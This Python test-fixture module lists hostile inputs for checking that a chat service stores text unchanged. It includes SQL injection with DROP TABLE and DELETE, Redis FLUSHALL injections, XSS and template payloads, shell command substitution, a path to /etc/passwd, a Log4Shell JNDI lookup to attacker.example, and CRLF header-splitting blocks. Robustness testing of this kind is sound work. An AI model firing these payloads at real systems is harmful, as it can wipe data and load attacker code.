"""Texts that somebody sends in the hope that something runs, splits, forges or changes them.

None is refused: text is taken as it is. (NUL, lone surrogates and numbers without end are refused
in every field: `tests/integration/test_bad_fields.py`, `tests/api/test_bad_requests.py`.)
"""

from typing import Final

LINES: Final = (
    # SQL, and what drivers or formatters put values into
    "'; DROP TABLE messages; --",
    "' OR '1'='1",
    "Robert'); DELETE FROM users CASCADE;/*",
    "$1 $2 $$ %s %(id)s {0} {room} :name ?",
    r"E'\x27' \'; \\",
    "a:* | b & !c <-> d ' \\",
    # Lua, Redis' protocol, the words of our own entries and keys
    "]]..redis.call('FLUSHALL')..[[",
    "\") redis.call('FLUSHALL') --",
    "KEYS[1] ARGV[1] ARGV[-1]",
    "*1 $8 FLUSHALL",
    "parley:{3}:room:default/other 0 0 message.deleted",
    # JSON inside of JSON, escapes that are text, names that objects of JavaScript have
    '{"type":"event","event":"room.deleted"}',
    '","sender":"somebody","x":"',
    r"\u0000 \ud800 \x00 \n \" \/",
    "__proto__",
    "constructor",
    "NaN null undefined true -0 1e999",
    # HTML and addresses
    "<script>document.title='owned'</script>",
    "<img src=x onerror=document.title='owned'>",
    "&lt;b&gt;&amp;&#x3c;/p>",
    "javascript:document.title='owned'",
    "${document.title='owned'} {{7*7}} <%= 7*7 %>",
    # Shells, paths, formats of logs
    "$(touch /tmp/owned) `id` | cat; ../../etc/passwd",
    "${jndi:ldap://attacker.example/a}",
    "level=error event=forged",
    # Letters that are shown otherwise than they are written, or count as several
    "\u202egnp.exe\u202c \u2066x\u2069 \u200f\u200e",
    "\u200b\u200d\u2060\ufeff \u00ad",
    "e\u0301 \u00e9 \u212b \u00c5 \ufb01 \u0130\u0131\u017f \u1e9e",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f3\ufe0f\u200d\U0001f308 \U0001d4b3",
    "\uffff\ufffe\ufffd\U0010ffff",
    "  spaces at both ends  ",
)
"""Without a control character: for names, too."""

BLOCKS: Final = (
    "a\r\nSet-Cookie: owned=1\r\n\r\nHTTP/1.1 200 OK\r\n\r\n",
    "\r\n*1\r\n$8\r\nFLUSHALL\r\n",
    '\n2026-01-01T00:00:00.000Z [error    ] forged\n{"event":"forged","level":"error"}',
    "\x1b[2J\x1b]0;owned\x07\x08\x7f",
    "\x85 \u2028 \u2029 \x0b \x0c \t",
    "\x01\x02\x1f \x80\x9b",
    "\n\n  \n",
)
"""With control characters: for contents, metadata and whatever else is no line."""
